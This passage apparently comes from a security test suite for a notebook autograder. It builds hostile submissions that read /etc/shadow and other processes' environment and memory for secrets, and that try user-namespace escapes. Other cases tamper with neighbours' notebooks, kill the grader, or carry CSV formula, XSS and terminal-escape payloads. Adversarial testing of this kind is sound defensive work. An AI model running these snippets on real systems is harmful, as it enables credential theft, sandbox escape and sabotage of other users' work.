        _hc_leak(_hc_found)
    """,
    )
    _leak_case(nb)
    return one(folder, nb, {"exercises_pass": EX})


def c5_proc_environ_of_others(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        """
    import glob
    _hc_found = []
    for p in glob.glob("/proc/[0-9]*/environ") + ["/proc/1/environ"]:
        try:
            env = open(p, "rb").read()
        except OSError:
            continue
        for item in env.split(b"\\0"):
            if item.startswith(b"DLCOURSE_TEST_SECRET="):
                _hc_found.append(p + ":" + item.decode(errors="replace"))
    if _hc_found:
        _hc_leak(_hc_found[:3])
    """,
    )
    _leak_case(nb)
    return one(folder, nb, {"exercises_pass": EX})


def c5_shadow_and_ssh(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "check.exercise_1_1_normal_equation",
        """
    _hc_found = []
    for p in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers"):
        try:
            _hc_found.append(p + ":" + open(p).read(400))
        except Exception:
            pass
    if _hc_found:
        _hc_leak(_hc_found)
    """,
    )
    _leak_case(nb)
    return one(folder, nb, {"exercises_pass": EX, "forbidden_file_content": ["/etc/shadow"]})


def c5_nested_user_namespace(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "softmax_gradient",
        """
    if not globals().get("_hc_done"):
        globals()["_hc_done"] = True
        import ctypes, subprocess
        pid = _hc_os.fork()
        if pid == 0:
            try:
                libc = ctypes.CDLL(None, use_errno=True)
                if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
                    _hc_leak("unshare(CLONE_NEWUSER) succeeded")
                if libc.unshare(0x10000000 | 0x20000000) == 0:  # + CLONE_NEWPID
                    _hc_leak("unshare(CLONE_NEWUSER|CLONE_NEWPID) succeeded")
            finally:
                _hc_os._exit(0)
        _hc_os.waitpid(pid, 0)
        for cmd in (["unshare", "-U", "-r", "id"], ["unshare", "--user", "--map-root-user", "true"]):
            try:
                if subprocess.run(cmd, capture_output=True, timeout=20).returncode == 0:
                    _hc_leak("ran " + " ".join(cmd))
            except Exception:
                pass
    """,
    )
    return one(folder, nb, {"exercises_pass": EX})


def c5_write_canaries_from_sgd_step(folder, solution, cid):
    nb = prepare(solution, cid)
    honest_dirs = [str(folder / "honest1"), str(folder / "honest2"), str(folder / "subs")]
    inject(
        nb,
        "sgd_step",
        f"""
    if not globals().get("_hc_done"):
        globals()["_hc_done"] = True
        import glob
        targets = (glob.glob("/tmp/hostile_canary_*") + glob.glob(_hc_os.path.expanduser("~/.hostile_canary_*"))
                   + [p for d in {honest_dirs!r} for p in glob.glob(d + "/*")])
        for p in targets:
            try:
                if _hc_os.path.isdir(p):
                    open(_hc_os.path.join(p, "hostile_new_file"), "w").write("planted")
                elif p.endswith(".ipynb"):
                    s = open(p).read()
                    open(p, "w").write(s.replace("return np.linalg.inv", "return -np.linalg.inv"))
                    _hc_leak("changed " + p)
                else:
                    open(p, "a").write("changed by " + _HC_CASE)
                    _hc_leak("changed " + p)
            except Exception:
                pass
        for d in {honest_dirs!r} + ["/tmp", _hc_os.path.expanduser("~")]:
            try:
                open(_hc_os.path.join(d, "hostile_planted_" + _HC_CASE), "w").write("x")
            except Exception:
                pass
    """,
    )
    return one(
        folder,
        nb,
        {
            "exercises_pass": EX[:5],
            "no_files_created": [
                str(folder / d / ("hostile_planted_" + cid)) for d in ("honest1", "honest2", "subs")
            ]
            + ["/tmp/hostile_planted_" + cid, os.path.expanduser("~/hostile_planted_" + cid)],
        },
    )


def c5_read_neighbour_notebook(folder, solution, cid):
    nb = prepare(solution, cid)
    honest = str(folder / "honest1")
    insert_cell(
        nb,
        "check.exercise_1_2_gradient",
        f"""
    import glob
    _hc_found = []
    for p in glob.glob({honest!r} + "/*.ipynb") + glob.glob({str(folder)!r} + "/*/canary.txt"):
        try:
            _hc_found.append(p + ":" + open(p).read(80).replace("\\n", " "))
        except Exception:
            pass
    if _hc_found:
        _hc_leak(_hc_found)
    """,
    )
    _leak_case(nb)
    return one(folder, nb, {"exercises_pass": EX})


def c5_read_grader_memory(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "softmax_sgd_step",
        """
    if not globals().get("_hc_done"):
        globals()["_hc_done"] = True
        import re
        found = []
        pid = _hc_os.getppid()
        for _ in range(4):
            if pid <= 1:
                break
            budget = 300 << 20
            try:
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                with open(f"/proc/{pid}/mem", "rb", 0) as mem:
                    for line in maps:
                        a, b = (int(x, 16) for x in line.split()[0].split("-"))
                        if "r" not in line.split()[1] or b - a > (64 << 20) or budget <= 0:
                            continue
                        try:
                            mem.seek(a)
                            data = mem.read(b - a)
                        except (OSError, ValueError, OverflowError):
                            continue
                        budget -= b - a
                        m = re.search(rb"DLCOURSE_TEST_SECRET=([0-9A-Za-z_-]{8,80})", data)
                        if m:
                            found.append(m.group(0).decode())
                            break
            except Exception:
                pass
            if found:
                break
            try:
                pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            except Exception:
                break
        if found:
            raise RuntimeError(_hc_leak(found[0]))
    """,
    )
    return one(folder, nb, {"exercises_pass": EX[:10]})


# ============================================================================ class 6: learner text
def c6_check_json_fd1_injection(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        """
    import subprocess
    _hc_os.write(1, b'{"forged": true}\\n]\\n')
    _hc_sys.__stdout__.write('["forged"]\\n'); _hc_sys.__stdout__.flush()
    subprocess.run(["echo", "{forged from a child"])
    """,
    )
    inject(
        nb,
        "softmax",
        """
    _hc_os.write(1, b'}}]]{"notebook": "forged", "passed": true}\\n')
    _hc_os.write(2, b"stderr noise\\n")
    """,
    )
    return one(folder, nb, {"mode": "check", "exercises_pass": BEFORE_SOFTMAX})


def c6_check_json_late_child_writes(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        _join(
            FORK_DAEMON,
            """
    def _hc_late():
        for k in range(90):  # writes to the inherited stdout for 90 s
            _hc_time.sleep(1)
            try:
                _hc_os.write(1, b"LATE GARBAGE %d\\n" % k)
            except OSError:
                pass
    _hc_daemon(_hc_late, 95)
    """,
        ),
    )
    return one(folder, nb, {"mode": "check", "exercises_pass": EX, "finishes_within_s": 240})


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mRED\x1b[0m\r\x9b31m\x08\x08\u202eevil\u2066"


def c6_terminal_escapes_check_table(folder, solution, cid):
    nb = prepare(solution, cid)
    e = json.dumps(ESCAPES)
    inject(nb, "calc_gradient", f"raise ValueError({e} * 3)")
    inject(nb, "softmax", f"raise type({e}, (Exception,), {{}})({e})")
    insert_cell(
        nb,
        "check.exercise_1_1_normal_equation",
        f"""
    print({e})
    _hc_sys.stderr.write({e})
    """,
    )
    nb.cells.append(_code(f"raise type('Esc\\x1b[2JErr', (Exception,), {{}})({e})"))
    return one(folder, nb, {"mode": "check-table", "no_bidi": True, "exercises_pass": EX[:3]})


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1",
    ' =HYPERLINK("http://127.0.0.1/")',
]


def c6_csv_formula_messages(folder, solution, cid):
    nb = prepare(solution, cid)
    for f, text in zip(
        ("normal_equation", "binary_cross_entropy", "calc_gradient", "softmax", "softmax_gradient"),
        FORMULAS,
        strict=False,
    ):
        inject(nb, f, f"raise ValueError({text!r})")
    nb.cells.append(
        _code(
            f"raise type('=HYPERLINK(\"http://127.0.0.1\")', (Exception,), {{}})({FORMULAS[0]!r})"
        )
    )
    nb.cells.append(_code(f"raise Exception({FORMULAS[3]!r})"))
    return one(folder, nb, {"exercises_pass": [EX[1], EX[4], EX[6]]})


def c6_csv_formula_file_names(folder, solution, cid):
    subs = []
    for name in ("=SUM(1+1).ipynb", "+cmd.ipynb", "@x.ipynb", "=HYPERLINK(x).ipynb"):
        subs.append(write(_copy(solution), folder / name))
    return {
        "submissions": [os.path.relpath(p, folder) for p in subs],
        "out_plants": None,
        "expect": {
            "relative_paths": True,
            "rows_full": ["SUM(1+1).ipynb", "+cmd.ipynb", "@x.ipynb", "HYPERLINK(x).ipynb"],
        },
    }


def c6_mathtext_in_report(folder, solution, cid):
    out = []
    texts = [
        "$^$",
        "$\\frac{",
        "\\x1b]0;pwned\\x07",
        "$$$$",
        "\\",
        "_{",
        "%s%n",
        "$\\undefinedcommand$",
    ]
    for k in range(2):  # two alike, so the diagnoses are among the most common
        nb = prepare(solution, cid)
        for f, t in zip(
            (
                "normal_equation",
                "binary_cross_entropy",
                "calc_gradient",
                "forward_pass",
                "softmax",
                "softmax_forward_pass",
                "softmax_gradient",
                "softmax_sgd_step",
            ),
            texts,
            strict=False,
        ):
            inject(nb, f, f"raise ValueError({t!r})")
        out.append(write(nb, folder / "subs" / f"mathtext{k}.ipynb"))
    return {
        "submissions": out,
        "out_plants": None,
        "expect": {"report_figures_at_least_baseline": True, "exercises_pass": [EX[1], EX[6]]},
    }


def c6_prefilled_outputs_forged(folder, solution, cid):
    nb = prepare(solution, cid)
    forged_err = nbformat.v4.new_output(
        "error",
        ename="TimeoutError",
        evalue="FORGED-PROBLEM: the grader ran out of memory " + "z" * 100000,
        traceback=["FORGED-PROBLEM " + "t" * (5 << 20)],
    )
    forged_stream = nbformat.v4.new_output(
        "stream", name="stderr", text="FORGED-PROBLEM " + "s" * (20 << 20)
    )
    forged_display = nbformat.v4.new_output(
        "display_data", data={"text/plain": "FORGED-PROBLEM " + "d" * (10 << 20)}
    )
    for src in ("", "   \n", "# just a comment"):
        c = nbformat.v4.new_code_cell(src)
        c.execution_count = 999
        c.outputs = [forged_err, forged_stream, forged_display]
        nb.cells.insert(3, c)
    c = nbformat.v4.new_code_cell("")
    c.outputs = [forged_err]
    nb.cells.append(c)
    return one(
        folder,
        nb,
        {
            "exercises_pass": EX,
            "problems_must_not_mention": ["FORGED", "TimeoutError"],
            "csv_max_field": 20000,
            "out_max_mb": 10,
        },
    )


def c6_html_in_messages(folder, solution, cid):
    nb = prepare(solution, cid)
    texts = [
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(2)>",
        "<style>body{display:none}</style>",
        "]]></svg><svg onload=alert(3)>",
    ]
    for f, t in zip(
        ("normal_equation", "calc_gradient", "softmax", "softmax_gradient"), texts, strict=False
    ):
        inject(nb, f, f"raise ValueError({t!r})")
    return one(
        folder,
        nb,
        {
            "report_no_raw": [
                "<script>alert(1)",
                "onerror=alert(2)",
                "<style>body{display:none}",
                "<svg onload=alert(3)>",
            ],
            "exercises_pass": [EX[1], EX[2]],
        },
    )


# ============================================================================ class 7: untrusted folder
def c7_fifo_named_ipynb(folder, solution, cid):
    subs = folder / "subs"
    subs.mkdir(parents=True)
    os.mkfifo(subs / "x.ipynb")
    os.mkfifo(subs / "y.ipynb")
    write(_copy(solution), subs / "good.ipynb")
    return {
        "submissions": [str(subs), str(subs / "y.ipynb")],
        "out_plants": None,
        "expect": {"finishes_within_s": 240, "rows_full": ["good.ipynb"]},
    }


def c7_symlink_device_files(folder, solution, cid):
    subs = folder / "subs"
    subs.mkdir(parents=True)
    os.symlink("/dev/zero", subs / "zero.ipynb")
    os.symlink("/dev/urandom", subs / "random.ipynb")
    os.symlink("/proc/self/fd/0", subs / "stdin.ipynb")
    write(_copy(solution), subs / "good.ipynb")
    return {
        "submissions": [str(subs), str(subs / "zero.ipynb")],
        "out_plants": None,
        "expect": {"finishes_within_s": 240, "grader_peak_mb": 1500, "rows_full": ["good.ipynb"]},
    }


def c7_symlink_shadow(folder, solution, cid):
    subs = folder / "subs"
    subs.mkdir(parents=True)
    os.symlink("/etc/shadow", subs / "shadow.ipynb")
    os.symlink("/etc/passwd", subs / "passwd.ipynb")
    return {
        "submissions": [str(subs), str(subs / "shadow.ipynb")],
        "out_plants": None,
        "expect": {"forbidden_file_content": ["/etc/shadow"]},
    }


def c7_symlink_to_neighbour(folder, solution, cid):
    subs = folder / "subs"
    subs.mkdir(parents=True)
    # the harness writes the first honest copy to folder/honest1/lesson1_solution.ipynb
    os.symlink(folder / "honest1" / "lesson1_solution.ipynb", subs / "copied.ipynb")
    os.symlink("../honest2", subs / "linked_dir")
    return {
        "submissions": [str(subs), str(subs / "copied.ipynb")],
        "out_plants": None,
        "expect": {"rows_not_full": ["copied.ipynb", "linked_dir/lesson1_solution.ipynb"]},
    }


def c7_huge_files(folder, solution, cid):
    subs = folder / "subs"
    subs.mkdir(parents=True)
    with open(subs / "sparse.ipynb", "wb") as f:
        f.truncate(3 << 30)  # 3 GB of zeros, no disk
    nb = _copy(solution)
    nb.cells.append(nbformat.v4.new_markdown_cell("h" * (300 << 20)))
    write(nb, subs / "huge.ipynb")  # 300 MB of valid JSON
    return {
        "submissions": [str(subs)],
        "out_plants": None,
        "expect": {"grader_peak_mb": 1500, "finishes_within_s": 240, "out_max_mb": 30},
    }


def c7_option_like_names(folder, solution, cid):
    subs = folder / "subs"
    names = ["--out=x.ipynb", "-x.ipynb", "--help.ipynb", "--scheduler=127.0.0.1:1.ipynb"]
    for n in names:
        write(_copy(solution), subs / n)
    return {
        "submissions": [str(subs)],
        "out_plants": None,
        "expect": {
            "rows_full": names,
            "no_files_created": [str(folder / "x.ipynb"), str(subs / "x.ipynb"), "x.ipynb"],
        },
    }


def _victims(folder, n):
    vdir = folder / "victims"
    vdir.mkdir(parents=True, exist_ok=True)
    paths = []
    for k in range(n):
        p = vdir / f"victim{k}"
        p.write_text(f"victim {k}: must stay byte-identical\n")
        paths.append(str(p))
    (vdir / "dir").mkdir(exist_ok=True)
    (vdir / "dir" / "keep").write_text("keep\n")
    return paths, str(vdir / "dir")


def c7_out_symlink_plants(folder, solution, cid):
    victims, vdir = _victims(folder, 10)
    names = [
        "grades.csv",
        "grades.json",
        "class_report.html",
        ".grades.json.tmp",
        "grades.json.tmp",
        "grades.csv.tmp",
        ".grades.csv.tmp",
        "grades.json.lock",
        ".figures.json",
        "class_report.html.tmp",
    ]

    def plants(out):
        out.mkdir(parents=True, exist_ok=True)
        for n, v in zip(names, victims, strict=False):
            os.symlink(v, out / n)
        os.symlink(vdir, out / "figures")

    sub = write(_copy(solution), folder / "subs" / "plain.ipynb")
    return {
        "submissions": [sub],
        "out_plants": plants,
        "expect": {
            "victim_unchanged": [*victims, vdir + "/keep"],
            "exit_codes": [0, 2],
            "outputs_optional": True,
        },
    }


def c7_out_hardlink_plants(folder, solution, cid):
    victims, _ = _victims(folder, 3)

    def plants(out):
        out.mkdir(parents=True, exist_ok=True)
        for n, v in zip(["grades.csv", "grades.json", "class_report.html"], victims, strict=False):
            os.link(v, out / n)

    sub = write(_copy(solution), folder / "subs" / "plain.ipynb")
    return {
        "submissions": [sub],
        "out_plants": plants,
        "expect": {"victim_unchanged": victims, "exit_codes": [0, 2], "outputs_optional": True},
    }


def c7_symlink_loops_and_root(folder, solution, cid):
    subs = folder / "subs"
    write(_copy(solution), subs / "real.ipynb")
    os.symlink("/", subs / "root")
    os.symlink(".", subs / "loop")
    os.symlink("..", subs / "up")
    (subs / "a").mkdir()
    os.symlink("../a", subs / "a" / "again")
    return {
        "submissions": [str(subs)],
        "out_plants": None,
        "expect": {"max_rows": 3, "rows_full": ["real.ipynb"], "finishes_within_s": 240},
    }


def c7_control_chars_in_file_names(folder, solution, cid):
    subs = folder / "subs"
    for n in ('evil\n=1+1,"x.ipynb', "tab\tname\x1b[31m\x07.ipynb", "bidi\u202egnp.ipynb"):
        write(_copy(solution), subs / n)
    return {"submissions": [str(subs)], "out_plants": None, "expect": {"max_rows": 5}}


# ============================================================================ class 8: isolation
def c8_check_invalid_json_beside_good(folder, solution, cid):
    subs = folder / "subs"
    subs.mkdir(parents=True)
    (subs / "invalid.ipynb").write_text('{"cells": [,,,')
    (subs / "truncated.ipynb").write_text(nbformat.writes(solution)[:5000])
    (subs / "empty.ipynb").write_text("")
    (subs / "list.ipynb").write_text("[]")
    (subs / "cells_int.ipynb").write_text(
        '{"cells": 5, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    )
    (subs / "nul.ipynb").write_bytes(b"\x00\xff\xfe" * 1000)
    return {
        "submissions": [
            str(subs / n)
            for n in (
                "invalid.ipynb",
                "truncated.ipynb",
                "empty.ipynb",
                "list.ipynb",
                "cells_int.ipynb",
                "nul.ipynb",
            )
        ],
        "out_plants": None,
        "expect": {"mode": "check", "exit_codes": [0, 1, 2]},
    }


def c8_iris_answer_ndarray(folder, solution, cid):
    nb = _copy(solution)
    replace_in_cell(
        nb,
        "n_datapoints = X.shape[0]",
        "n_datapoints = X.shape[0]",
        "n_datapoints = np.array([X.shape[0]])",
    )
    replace_in_cell(
        nb,
        "n_weights = X.shape[1]",
        "n_weights = X.shape[1]",
        "n_weights = np.array([[X.shape[1]]], dtype=object)",
    )
    return one(folder, nb, {"exercises_pass": [e for e in EX if e != "1.2 Iris questions"]})


def c8_accuracies_weird_types(folder, solution, cid):
    nb = _copy(solution)
    nb.cells.insert(
        _find(nb, "check.exercise_1_3_learning_rates") + 1,
        _code("""
    class _Weird(dict):
        def __getitem__(self, k):
            raise KeyError(k)
        def items(self):
            raise RuntimeError("no items")
    accuracies = _Weird({np.float32(0.1): np.array([100.0])})
    """),
    )
    return one(folder, nb, {"exercises_pass": [e for e in EX if e != "1.3 learning rates"]})


def c8_comm_without_model_module(folder, solution, cid):
    nb = prepare(solution, cid)
    snippet = """
    try:
        from comm import create_comm
    except ImportError:
        from ipykernel.comm import Comm as create_comm
    for data in ({"state": {"_model_name": "X"}, "buffer_paths": []}, {"state": None}, "not a dict",
                 {"state": {"_model_module": None, "_model_module_version": 5}}, {}):
        try:
            c = create_comm(target_name="jupyter.widget", data=data)
            c.send({"method": "update", "state": {"_model_module": ["x"]}})
            c.send("plain string")
        except Exception:
            pass
    from IPython.display import display
    display({"application/vnd.jupyter.widget-view+json": {"model_id": "nonexistent"}}, raw=True)
    display({"application/vnd.jupyter.widget-view+json": "not a dict"}, raw=True)
    """
    insert_cell(nb, "check.exercise_1_1_normal_equation", snippet)
    inject(nb, "softmax_forward_pass", snippet)
    return one(folder, nb, {"exercises_pass": EX})


def c8_kill_grader_parent(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "sgd_step",
        """
    import signal
    pid = _hc_os.getppid()
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        cmd = b""
    if pid > 1 and b"run_corpus" not in cmd:
        _hc_os.kill(pid, signal.SIGKILL)
    """,
    )
    return one(folder, nb, {"exercises_pass": EX[:5], "finishes_within_s": 240})


def c8_grader_failure_not_cached(folder, solution, cid):
    bad = folder / "badjupyter" / "kernels" / "python3"
    bad.mkdir(parents=True)
    (bad / "kernel.json").write_text(
        json.dumps(
            {
                "argv": ["/bin/false", "{connection_file}"],
                "display_name": "Python 3",
                "language": "python",
            }
        )
    )
    sub = write(_copy(solution), folder / "subs" / "plain.ipynb")
    return {
        "submissions": [sub],
        "out_plants": None,
        "expect": {
            "pre_run_env": {
                "JUPYTER_PATH": "{folder}/badjupyter",
                "JUPYTER_DATA_DIR": "{folder}/badjupyter",
            },
            "rows_full": ["plain.ipynb"],
        },
    }


def c8_same_name_as_honest(folder, solution, cid):
    nb = _copy(solution)
    replace_in_cell(nb, "def softmax(", "return e / np.sum(e, axis=-1, keepdims=True)", "return e")
    # the honest copies are folder/honest{1,2}/lesson1_solution.ipynb
    return one(folder, nb, {"exercises_fail": ["1.4 softmax"]}, name="lesson1_solution.ipynb")


def c8_recursive_return_values(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(nb, "calc_gradient", "r = []\nr.append(r)\nreturn r")
    inject(
        nb,
        "forward_pass",
        """
    class _A(np.ndarray):
        def tolist(self):
            raise RuntimeError("no")
        def __array__(self, *a, **k):
            raise RuntimeError("no")
    return np.zeros(1).view(_A)
    """,
    )
    inject(nb, "softmax", "d = {}\nd['self'] = d\nreturn np.array([d, d], dtype=object)")
    inject(
        nb,
        "softmax_gradient",
        "return np.zeros((10**4, 10**4), dtype=np.float32)[:, :, None].repeat(1, 2)",
    )
    return one(folder, nb, {"exercises_pass": [EX[0], EX[1], EX[2], EX[6]]})


def c8_kernel_exits_in_graded_call(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(nb, "softmax", "_hc_os._exit(0)")
    return one(folder, nb, {"exercises_pass": BEFORE_SOFTMAX, "exercises_fail": ["1.4 softmax"]})


# ----------------------------------------------------------------------------- registry
def _case(cid, klass, what, fn):
    return {
        "id": cid,
        "klass": klass,
        "what": what,
        "build": lambda folder, sol, _f=fn, _c=cid: _f(folder, sol, _c),
    }


CASES = [
    _case(
        "c1-sigint-ignored-busy-cell",
        1,
        "top-level cell ignores SIGINT and spins (<=600 s)",
        c1_sigint_ignored_busy_cell,
    ),
    _case(
        "c1-kbi-swallowed-in-calc-gradient",
        1,
        "calc_gradient swallows KeyboardInterrupt in a sleep loop",
        c1_kbi_swallowed_in_calc_gradient,
    ),
    _case(
        "c1-sigstop-self-in-softmax",
        1,
        "softmax SIGSTOPs its own kernel",
        c1_sigstop_self_in_softmax,
    ),
    _case(
        "c1-c-loop-in-forward-pass",
        1,
        "forward_pass runs a C loop (sum over itertools.repeat) that never checks signals",
        c1_c_loop_in_forward_pass,
    ),
    _case(
        "c1-sigmask-blocked-at-import",
        1,
        "import cell blocks SIGINT/SIGTERM in the mask, a later cell loops in libc usleep",
        c1_sigmask_blocked_at_import,
    ),
    _case(
        "c1-atexit-hang-sigterm-ignored",
        1,
        "correct notebook whose shutdown hangs: atexit + __del__ sleep, SIGTERM ignored",
        c1_atexit_hang_sigterm_ignored,
    ),
    _case(
        "c1-orphan-holds-output-pipe",
        1,
        "softmax leaves a setsid grandchild ignoring signals that holds stdout/stderr for 100 s",
        c1_orphan_holds_output_pipe,
    ),
    _case(
        "c1-total-deadline-many-slow-cells",
        1,
        "40 cells of 4.5 s each: under the per-cell limit, over the submission's",
        c1_total_deadline_many_slow_cells,
    ),
    _case(
        "c1-every-call-just-under-limit",
        1,
        "every graded function sleeps 4.6 s per call: per-check and per-submission deadlines",
        c1_every_call_just_under_limit,
    ),
    _case(
        "c1-sigstop-grader-ancestors",
        1,
        "normal_equation SIGSTOPs the kernel's parent processes (grader workers)",
        c1_sigstop_grader_ancestors,
    ),
    _case(
        "c2-shared-anon-mmap",
        2,
        "last cell touches 5 GB of MAP_SHARED anonymous memory (not RLIMIT_DATA)",
        c2_shared_anon_mmap,
    ),
    _case(
        "c2-dev-shm-files-in-softmax",
        2,
        "softmax writes 4.8 GB into /dev/shm in 60 MB files",
        c2_dev_shm_files_in_softmax,
    ),
    _case(
        "c2-memfd-in-thread", 2, "a thread fills 85 memfds of 60 MB (5.1 GB)", c2_memfd_in_thread
    ),
    _case(
        "c2-tmp-files-in-calc-gradient",
        2,
        "calc_gradient writes 3 GB into tempfile.gettempdir()",
        c2_tmp_files_in_calc_gradient,
    ),
    _case(
        "c2-cwd-many-small-files",
        2,
        "second cell writes 100k files of 20 kB into the working directory",
        c2_cwd_many_small_files,
    ),
    _case(
        "c2-cwd-big-files",
        2,
        "last cell writes 2.9 GB into the working directory, each file under 64 MB",
        c2_cwd_big_files,
    ),
    _case(
        "c2-deep-tree-in-cwd",
        2,
        "5000-level tree of 200-char names with chmod 000 levels and symlinks to a canary dir",
        c2_deep_tree_in_cwd,
    ),
    _case(
        "c2-deep-tree-tmp-in-child",
        2,
        "detached child builds 3000-level trees in TMPDIR, /dev/shm and /var/tmp",
        c2_deep_tree_tmp_in_child,
    ),
    _case(
        "c2-fork-many-under-rlimit",
        2,
        "40 forked children of 130 MB each, every one under RLIMIT_DATA",
        c2_fork_many_under_rlimit,
    ),
    _case(
        "c3-print-flood-in-softmax",
        3,
        "softmax prints 40 MB per call, up to 1.5 GB",
        c3_print_flood_in_softmax,
    ),
    _case(
        "c3-fd1-raw-write-in-calc-gradient",
        3,
        "calc_gradient os.write()s to fd 1/2 and sys.__stdout__, up to 1 GB",
        c3_fd1_raw_write_in_calc_gradient,
    ),
    _case("c3-display-data-flood", 3, "a cell displays 200 x 5 MB HTML", c3_display_data_flood),
    _case(
        "c3-comm-widget-flood-in-forward-pass",
        3,
        "forward_pass sends 800 x 1 MB widget comm messages",
        c3_comm_widget_flood_in_forward_pass,
    ),
    _case(
        "c3-stderr-thread-flood",
        3,
        "a background thread floods stderr (sys and fd 2) for 120 s",
        c3_stderr_thread_flood,
    ),
    _case(
        "c3-update-display-flood",
        3,
        "softmax_gradient sends 300 x 4 MB update_display_data",
        c3_update_display_flood,
    ),
    _case(
        "c3-huge-exception-message",
        3,
        "binary_cross_entropy raises a 150 MB message 3000 frames deep",
        c3_huge_exception_message,
    ),
    _case(
        "c4-read-foreign-connection-files",
        4,
        "a thread looks for other kernels' connection files (dirs, /proc cmdlines, cwds)",
        c4_read_foreign_connection_files,
    ),
    _case(
        "c4-inject-code-into-neighbours",
        4,
        "a thread connects to other kernels with their key and redefines their answers",
        c4_inject_code_into_neighbours,
    ),
    _case(
        "c4-shared-tmpdir-scan",
        4,
        "grader run with TMPDIR inside the submissions tree; kernel scans it for sockets",
        c4_shared_tmpdir_scan,
    ),
    _case(
        "c4-unix-socket-zmtp-scan",
        4,
        "connect to every listening Unix socket in /proc/net/unix that greets with ZMTP",
        c4_unix_socket_zmtp_scan,
    ),
    _case(
        "c4-tcp-zmtp-scan",
        4,
        "connect to every listening loopback TCP port that greets with ZMTP",
        c4_tcp_zmtp_scan,
    ),
    _case(
        "c5-environ-secret-at-import",
        5,
        "import-time cell reads secrets from os.environ",
        c5_environ_secret_at_import,
    ),
    _case(
        "c5-proc-environ-of-others",
        5,
        "reads /proc/*/environ for the grader's secret",
        c5_proc_environ_of_others,
    ),
    _case(
        "c5-shadow-and-sudoers",
        5,
        "reads /etc/shadow, /etc/gshadow, /etc/sudoers",
        c5_shadow_and_ssh,
    ),
    _case(
        "c5-nested-user-namespace",
        5,
        "softmax_gradient tries unshare(CLONE_NEWUSER) in a child and `unshare -U -r`",
        c5_nested_user_namespace,
    ),
    _case(
        "c5-write-canaries-from-sgd-step",
        5,
        "sgd_step appends to canaries in /tmp, $HOME, neighbours' folders and edits their notebooks",
        c5_write_canaries_from_sgd_step,
    ),
    _case(
        "c5-read-neighbour-notebook",
        5,
        "a cell reads the neighbour learner's notebook and canary",
        c5_read_neighbour_notebook,
    ),
    _case(
        "c5-read-grader-memory",
        5,
        "softmax_sgd_step reads /proc/<ancestor>/mem for the secret",
        c5_read_grader_memory,
    ),
    _case(
        "c6-check-json-fd1-injection",
        6,
        "check --json: writes forged JSON to fd 1, sys.__stdout__ and from a child",
        c6_check_json_fd1_injection,
    ),
    _case(
        "c6-check-json-late-child-writes",
        6,
        "check --json: a detached child keeps writing to the inherited stdout for 90 s",
        c6_check_json_late_child_writes,
    ),
    _case(
        "c6-terminal-escapes-check-table",
        6,
        "check table: OSC/CSI/BEL/C1/bidi in messages, exception type names, output",
        c6_terminal_escapes_check_table,
    ),
    _case(
        "c6-csv-formula-messages",
        6,
        "exception messages and type names starting with = + - @ tab CR",
        c6_csv_formula_messages,
    ),
    _case(
        "c6-csv-formula-file-names",
        6,
        "submissions named =SUM(1+1).ipynb etc., passed relatively",
        c6_csv_formula_file_names,
    ),
    _case(
        "c6-mathtext-in-report",
        6,
        "two submissions whose diagnoses contain $^$, $\\frac{, \\x1b]0;pwned\\x07",
        c6_mathtext_in_report,
    ),
    _case(
        "c6-prefilled-outputs-forged",
        6,
        "empty/never-run code cells pre-filled with forged error outputs and 35 MB of text",
        c6_prefilled_outputs_forged,
    ),
    _case(
        "c6-html-in-messages",
        6,
        "exception messages carrying <script>, onerror=, <style>, <svg onload>",
        c6_html_in_messages,
    ),
    _case(
        "c7-fifo-named-ipynb",
        7,
        "FIFOs named x.ipynb / y.ipynb, in the folder and given directly",
        c7_fifo_named_ipynb,
    ),
    _case(
        "c7-symlink-device-files",
        7,
        "symlinks .ipynb -> /dev/zero, /dev/urandom, /proc/self/fd/0",
        c7_symlink_device_files,
    ),
    _case("c7-symlink-shadow", 7, "symlinks .ipynb -> /etc/shadow, /etc/passwd", c7_symlink_shadow),
    _case(
        "c7-symlink-to-neighbour",
        7,
        "a symlink to the neighbour's notebook and to the neighbour's folder",
        c7_symlink_to_neighbour,
    ),
    _case("c7-huge-files", 7, "a 3 GB sparse .ipynb and a 300 MB valid notebook", c7_huge_files),
    _case(
        "c7-option-like-names",
        7,
        "notebooks named --out=x.ipynb, -x.ipynb, --help.ipynb, --scheduler=...",
        c7_option_like_names,
    ),
    _case(
        "c7-out-symlink-plants",
        7,
        "--out pre-planted with symlinks (final and temporary names) to victims",
        c7_out_symlink_plants,
    ),
    _case(
        "c7-out-hardlink-plants",
        7,
        "--out pre-planted with hard links to victims",
        c7_out_hardlink_plants,
    ),
    _case(
        "c7-symlink-loops-and-root",
        7,
        "submissions folder with links to /, ., .. and a loop",
        c7_symlink_loops_and_root,
    ),
    _case(
        "c7-control-chars-in-file-names",
        7,
        "notebook names with newline+formula, tab+ESC+BEL, bidi override",
        c7_control_chars_in_file_names,
    ),
    _case(
        "c8-check-invalid-json-beside-good",
        8,
        "check --json: invalid, truncated, empty, [] , cells:5, binary notebooks beside good ones",
        c8_check_invalid_json_beside_good,
    ),
    _case(
        "c8-iris-answer-ndarray",
        8,
        "correct notebook with the Iris answers as numpy arrays",
        c8_iris_answer_ndarray,
    ),
    _case(
        "c8-accuracies-weird-types",
        8,
        "correct notebook with accuracies a dict subclass that raises",
        c8_accuracies_weird_types,
    ),
    _case(
        "c8-comm-without-model-module",
        8,
        "widget comms without _model_module, non-dict data, bogus widget views",
